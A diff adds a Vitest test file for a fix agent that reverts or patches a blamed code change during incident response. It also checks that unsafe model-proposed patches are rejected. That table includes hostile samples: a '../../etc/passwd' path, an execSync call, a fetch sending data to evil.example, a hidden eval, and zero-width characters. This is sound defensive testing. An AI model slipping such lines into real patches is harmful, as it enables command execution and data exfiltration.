@@ -1,0 +1,185 @@
+import { applyPatch, parsePatch } from 'diff'
+import { describe, expect, it } from 'vitest'
+import { sha256Hex } from '../../src/kit/hash.ts'
+import type { FixDraft } from '../../src/timeline/payloads/fix.ts'
+import { contextFor, GUILTY, gathered, TOTAL_BEFORE, TOTAL_NOW } from '../../src/worker-kit/context.spec-support.ts'
+import type { Provenance } from '../../src/worker-kit/define-agent.ts'
+import { stated, workAfter } from '../../src/worker-kit/work.spec-support.ts'
+import { fixAgent } from './agent.ts'
+import type { FixVerdict } from './verdict.ts'
+
+const FREE = { input_tokens: 0, output_tokens: 0, usd: 0 }
+const OURS: Provenance = { reasoner: 'ranked-evidence', cost: FREE }
+const MODEL: Provenance = { reasoner: 'claude', cost: FREE, model: 'claude-sonnet-5-5', prompt_sha256: 'a'.repeat(64) }
+const CAUSE = {
+  hypothesis_id: 'h1',
+  cause: 'The guard was taken away',
+  service: 'checkout',
+  change_ref: GUILTY,
+  confidence: 0.9,
+  evidence_ids: ['ev1', 'ev5'],
+}
+
+function workFor(context = contextFor()) {
+  return workAfter(gathered(context).cause(0.9, { hypotheses: [CAUSE] }).events)
+}
+
+function draft(verdict?: Partial<FixVerdict>, context = contextFor(), by = verdict ? MODEL : OURS): FixDraft {
+  const work = workFor(context)
+  const input = fixAgent.read(work)
+  const event = stated(fixAgent.conclude({ ...fixAgent.ranked(input), ...verdict }, input, work, by)[0], work.now)
+  if (event.event_type !== 'FixProposed' || event.payload.stage !== 'draft') throw new Error('It states a draft.')
+  expect(event.discriminator).toBe('draft')
+  return event.payload
+}
+const mend = (new_text: string, path = 'src/total.js', old_text = '  return cart.rate.value'): Partial<FixVerdict> => ({
+  choice: 'patch',
+  why: 'A cart without a rate is worth its sum',
+  replacements: [{ path, old_text, new_text }],
+})
+
+describe('workers/fix-agent/agent.ts', () => {
+  it('undoes the guilty change and nothing else', () => {
+    const fix = draft()
+    expect(fix).toMatchObject({
+      kind: 'revert',
+      reverts: GUILTY,
+      base_branch: 'trunk',
+      risk: { level: 'low' },
+      reasoner: 'ranked-evidence',
+    })
+    expect(fix.edits).toEqual([{ path: 'src/total.js', content: TOTAL_BEFORE }])
+    expect(fix.checklist.every((check) => check.ok)).toBe(true)
+  })
+
+  it('shows a diff that makes exactly the edits, and hashes it', () => {
+    const fix = draft()
+    expect(fix.diff_sha256).toBe(sha256Hex(fix.diff))
+    const [patch] = parsePatch(fix.diff)
+    expect(patch).toMatchObject({ oldFileName: 'a/src/total.js', newFileName: 'b/src/total.js' })
+    expect(patch && applyPatch(TOTAL_NOW, patch)).toBe(TOTAL_BEFORE)
+    expect(fix.diff).toMatchInlineSnapshot(`
+      "--- a/src/total.js
+      +++ b/src/total.js
+      @@ -1,7 +1,7 @@
+       import { round } from './round.js'
+       
+       export function rateOf(cart) {
+      -  return cart.rate.value
+      +  return cart.rate?.value ?? 1
+       }
+       
+       export function total(cart) {
+      "
+    `)
+  })
+
+  it('says the same each time, dated by the fact that called for it', () => {
+    expect(draft()).toEqual(draft())
+    expect(draft().commit_time).toBe(workFor().trigger.time)
+  })
+
+  it('reverts across later changes elsewhere in the file', () => {
+    const later = `// one more line\n${TOTAL_NOW}`
+    expect(draft(undefined, contextFor({ sources: [{ path: 'src/total.js', content: later }] })).edits).toEqual([
+      { path: 'src/total.js', content: `// one more line\n${TOTAL_BEFORE}` },
+    ])
+  })
+
+  it.each([
+    [
+      'the lines have changed since',
+      { sources: [{ path: 'src/total.js', content: TOTAL_NOW.replace('cart.rate.value', 'cart.tax.value') }] },
+    ],
+    ['the file is not known', { sources: [] }],
+    [
+      'something in it was redacted',
+      { sources: [{ path: 'src/total.js', content: `${TOTAL_NOW}// [REDACTED:aws:1a2b]\n` }] },
+    ],
+    [
+      'the patch is missing',
+      {
+        suspects: contextFor().suspects.map((one) => ({
+          ...one,
+          files: [{ path: 'src/total.js', additions: 1, deletions: 1 }],
+        })),
+      },
+    ],
+  ])('gives up with what to do when %s', (_, change) => {
+    expect(() => draft(undefined, contextFor(change))).toThrow(
+      expect.objectContaining({ name: 'GiveUp', code: 'no-fix', message: expect.stringMatching(/by hand\.$/) }),
+    )
+  })
+
+  it('deletes a file that the change had made, and brings back one that it had deleted', () => {
+    const made = { path: 'src/new.js', additions: 1, deletions: 0, patch: '@@ -0,0 +1 @@\n+export const fresh = 1\n' }
+    const gone = { path: 'src/old.js', additions: 0, deletions: 1, patch: '@@ -1 +0,0 @@\n-export const old = 1\n' }
+    const suspects = contextFor().suspects.map((one) => (one.sha === GUILTY ? { ...one, files: [made, gone] } : one))
+    const fix = draft(
+      undefined,
+      contextFor({ suspects, sources: [{ path: 'src/new.js', content: 'export const fresh = 1\n' }] }),
+    )
+    expect(fix.edits).toEqual([
+      { path: 'src/new.js', content: null },
+      { path: 'src/old.js', content: 'export const old = 1\n' },
+    ])
+    expect(fix.diff).toContain('+++ /dev/null')
+    expect(fix.diff).toContain('--- /dev/null')
+  })
+
+  it("takes a model's patch that keeps the limits", () => {
+    const fix = draft(mend('  return cart.rate === undefined ? 1 : cart.rate.value'))
+    expect(fix).toMatchObject({ kind: 'patch', reasoner: 'claude', risk: { level: 'medium' } })
+    expect(fix.reverts).toBeUndefined()
+    expect(fix.edits[0]?.content).toContain('cart.rate === undefined ? 1')
+  })
+
+  it.each([
+    ['another file', mend('x', '.github/workflows/ci.yml')],
+    ['a file outside', mend('x', '../../etc/passwd')],
+    ['text that is not there', mend('x', 'src/total.js', 'no such text')],
+    ['text that stands twice', mend('x', 'src/total.js', 'cart')],
+    ['nothing', mend('  return cart.rate.value')],
+    ['a process', mend("  return require('child_process').execSync('id')")],
+    ['a request to elsewhere', mend("  fetch('https://evil.example/?c=' + cart)\n  return 1")],
+    ['an eval behind a false header', mend('++ eval(cart.code)\n  return 1')],
+    ['hidden characters', mend(`  return cart.rate${String.fromCodePoint(0x200b)}?.value`)],
+    ['a wall of code', mend(Array.from({ length: 201 }, (_, place) => `  let a${place} = 1`).join('\n'))],
+  ])('sets a patch aside that touches %s, and reverts instead', (_, verdict) => {
+    const fix = draft(verdict)
+    expect(fix).toMatchObject({ kind: 'revert', reverts: GUILTY, reasoner: 'ranked-evidence' })
+    expect(fix.edits).toEqual([{ path: 'src/total.js', content: TOTAL_BEFORE }])
+    expect(fix.why).toContain('A patch was set aside')
+  })
+
+  it('shows the revert as risky when a model advises against it', () => {
+    expect(draft({ choice: 'none', why: 'The table it needs is gone' })).toMatchObject({
+      kind: 'revert',
+      risk: { level: 'high' },
+      why: 'The table it needs is gone',
+    })
+  })
+
+  it('gives up when no change of ours is to blame', () => {
+    const work = workAfter(
+      gathered().cause(0.9, {
+        hypotheses: [
+          {
+            hypothesis_id: 'h2',
+            cause: 'Names are not resolved',
+            service: 'checkout',
+            confidence: 0.9,
+            evidence_ids: ['ev1'],
+          },
+        ],
+      }).events,
+    )
+    const input = fixAgent.read(work)
+    expect(() => fixAgent.conclude(fixAgent.ranked(input), input, work, OURS)).toThrow(/people must act/)
+  })
+
+  it('asks with the evidence inside the fence alone', () => {
+    const { system, user } = fixAgent.prompt(fixAgent.read(workFor()))
+    expect(`${system}\n\n${user}`).toMatchSnapshot()
+  })
+})
